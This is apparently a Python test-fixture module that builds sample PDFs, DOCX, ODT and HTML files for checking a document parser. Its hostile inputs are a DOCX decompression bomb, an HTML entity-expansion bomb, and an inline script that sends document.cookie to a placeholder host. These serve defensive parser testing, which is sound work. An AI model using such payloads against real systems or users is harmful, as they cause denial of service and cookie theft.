"""Documents the tests build: text PDFs (fpdf2, with a Unicode font), a scanned PDF (pages that
are pictures), an encrypted PDF, DOCX and ODT written as the zip of XML they are, HTML with
scripts and hostile entities, Markdown and text."""

from __future__ import annotations

import datetime as dt
import io
import os
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

from fpdf import FPDF
from PIL import Image, ImageDraw, ImageFont

_FONT_DIRS = ("/usr/share/fonts/truetype/dejavu", "/usr/share/fonts/dejavu", "/usr/local/share/fonts")


def _unicode_font() -> str | None:
    for folder in _FONT_DIRS:
        candidate = os.path.join(folder, "DejaVuSans.ttf")
        if os.path.exists(candidate):
            return candidate
    return None


def _pdf(title: str | None, author: str | None, lang: str | None,
         created: dt.datetime | None) -> FPDF:
    pdf = FPDF(format="A4")
    pdf.set_auto_page_break(True, margin=20)
    font = _unicode_font()
    if font:
        pdf.add_font("Body", fname=font)
        pdf.set_font("Body", size=11)
    else:
        pdf.set_font("helvetica", size=11)
    if title:
        pdf.set_title(title)
    if author:
        pdf.set_author(author)
    if lang:
        pdf.set_lang(lang)
    pdf.set_creation_date(created or dt.datetime(2025, 3, 19, 14, 30, tzinfo=dt.UTC))
    return pdf


def text_pdf(path: Path, pages: list[str], *, title: str | None = None, author: str | None = None,
             lang: str | None = None, created: dt.datetime | None = None,
             user_password: str | None = None) -> Path:
    """A PDF with a real text layer: one page per element of ``pages`` (paragraphs split on
    blank lines)."""
    pdf = _pdf(title, author, lang, created)
    if user_password is not None:
        pdf.set_encryption(owner_password="owner-" + user_password, user_password=user_password)
    for text in pages:
        pdf.add_page()
        for para in text.split("\n\n"):
            pdf.multi_cell(0, 6, para.strip(), new_x="LMARGIN", new_y="NEXT")
            pdf.ln(3)
    pdf.output(str(path))
    return path


def scanned_pdf(path: Path, lines: list[str], pages: int = 2) -> Path:
    """A PDF whose pages are pictures of text (as a scanner makes them): no text layer."""
    pdf = _pdf("", None, None, None)
    font: ImageFont.FreeTypeFont | ImageFont.ImageFont
    try:
        font = ImageFont.truetype(_unicode_font() or "DejaVuSans.ttf", 28)
    except OSError:
        font = ImageFont.load_default(size=28)
    for n in range(pages):
        im = Image.new("L", (1240, 1754), 250)
        draw = ImageDraw.Draw(im)
        for i, line in enumerate(lines):
            draw.text((100, 120 + i * 44), f"{line} ({n + 1})", font=font, fill=20)
        buf = io.BytesIO()
        im.save(buf, "PNG")
        pdf.add_page()
        pdf.image(buf, x=0, y=0, w=210, h=297)
    pdf.output(str(path))
    return path


def corrupt_pdf(path: Path) -> Path:
    path.write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\n" + os.urandom(300)
                     + b"\ntrailer << /Root 9 0 R >>\n%%EOF\n")
    return path


# -- DOCX -----------------------------------------------------------------------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _docx_paragraph(text: str, style: str | None = None) -> str:
    ppr = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    runs = '<w:r><w:tab/></w:r>'.join(f'<w:r><w:t xml:space="preserve">{escape(part)}</w:t></w:r>'
                                       for part in text.split("\t"))
    return f"<w:p>{ppr}{runs}</w:p>"


def docx(path: Path, paragraphs: list[str], *, heading: str | None = None, title: str | None = None,
         creator: str | None = None, created: str | None = None, language: str | None = None,
         deleted: str | None = None, pages: int | None = None) -> Path:
    """A minimal, valid Word document (Word and LibreOffice open it)."""
    body = ""
    if heading:
        body += _docx_paragraph(heading, "Heading1")
    body += "".join(_docx_paragraph(p) for p in paragraphs)
    if deleted:
        body += (f'<w:p><w:del w:id="1" w:author="x" w:date="2025-03-19T00:00:00Z"><w:r><w:delText>'
                 f'{escape(deleted)}</w:delText></w:r></w:del></w:p>')
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{_W}">'
                f'<w:body>{body}<w:sectPr/></w:body></w:document>')
    styles = (f'<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="{_W}">'
              '<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/></w:style>'
              '</w:styles>')
    core_items = ""
    if title:
        core_items += f"<dc:title>{escape(title)}</dc:title>"
    if creator:
        core_items += f"<dc:creator>{escape(creator)}</dc:creator>"
    if created:
        core_items += f'<dcterms:created xsi:type="dcterms:W3CDTF">{created}</dcterms:created>'
    if language:
        core_items += f"<dc:language>{language}</dc:language>"
    core = ('<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties '
            'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">{core_items}</cp:coreProperties>')
    app = ('<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/'
           f'officeDocument/2006/extended-properties"><Pages>{pages or 1}</Pages></Properties>')
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
             'package/2006/content-types"><Default Extension="rels" ContentType="application/'
             'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
             '"application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
             'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
            '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
            'formats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '</Relationships>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("word/document.xml", document)
        zf.writestr("word/styles.xml", styles)
        zf.writestr("docProps/core.xml", core)
        zf.writestr("docProps/app.xml", app)
    return path


def docx_bomb(path: Path, megabytes: int = 200) -> Path:
    """A DOCX whose document.xml unpacks to ``megabytes`` MB (a few hundred KB packed)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>'.encode())
            chunk = b"a" * (1024 * 1024)
            for _ in range(megabytes):
                fh.write(chunk)
            fh.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return path


# -- ODT ------------------------------------------------------------------------------------------

_ODT_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
           'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
           'xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.3"')


def odt(path: Path, paragraphs: list[str], *, heading: str | None = None, title: str | None = None,
        creator: str | None = None, date: str | None = None, language: str | None = None,
        encrypted: bool = False) -> Path:
    """A minimal, valid OpenDocument text (``text:s`` for runs of spaces, as LibreOffice writes)."""
    def para(text: str) -> str:
        out = escape(text)
        return "<text:p>" + out.replace("   ", ' <text:s text:c="2"/>') + "</text:p>"
    body = (f'<text:h text:outline-level="1">{escape(heading)}</text:h>' if heading else "")
    body += "".join(para(p) for p in paragraphs)
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODT_NS}>'
               f"<office:body><office:text>{body}</office:text></office:body></office:document-content>")
    meta_items = ""
    if title:
        meta_items += f"<dc:title>{escape(title)}</dc:title>"
    if creator:
        meta_items += f"<dc:creator>{escape(creator)}</dc:creator>"
    if date:
        meta_items += f"<meta:creation-date>{date}</meta:creation-date>"
    if language:
        meta_items += f"<dc:language>{language}</dc:language>"
    meta_items += '<meta:document-statistic meta:page-count="1"/>'
    meta = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {_ODT_NS}><office:meta>'
            f"{meta_items}</office:meta></office:document-meta>")
    encryption = ('<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x">'
                  '<manifest:algorithm manifest:algorithm-name="Blowfish CFB"/></manifest:encryption-data>'
                  if encrypted else "")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
                'names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
                f'manifest:full-path="content.xml" manifest:media-type="text/xml">{encryption}'
                '</manifest:file-entry></manifest:manifest>')
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text",
                    compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", os.urandom(200) if encrypted else content.encode(),
                    compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr("meta.xml", meta, compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
    return path


# -- HTML -----------------------------------------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<title>Secretary General visits Thales Herstal factory</title>
<meta name="author" content="NATO Press Office">
<meta property="article:published_time" content="2025-03-27T12:00:00+01:00">
<script>document.title = "hacked"; fetch("https://example.invalid/track?" + document.cookie);</script>
<style>body { background: url(https://example.invalid/pixel.png) }</style>
</head>
<body onload="alert('x')">
<h1>NATO Secretary General visits Thales Herstal factory</h1>
<p>Source: NATO</p>
<p>Mr Rutte emphasised the critical need to ramp up defence production &amp; R&amp;D &ndash; in Herstal,
Belgium (Vu&#x10D;i&#263; was not there). &lol3;</p>
<script type="text/javascript">var secret = "script words must not be searchable";</script>
<noscript>noscript words</noscript>
<img src="https://example.invalid/x.png" alt="">
<p>Photographs will be available on the NATO website.</p>
</body></html>
"""


def hostile_html(path: Path) -> Path:
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    return path
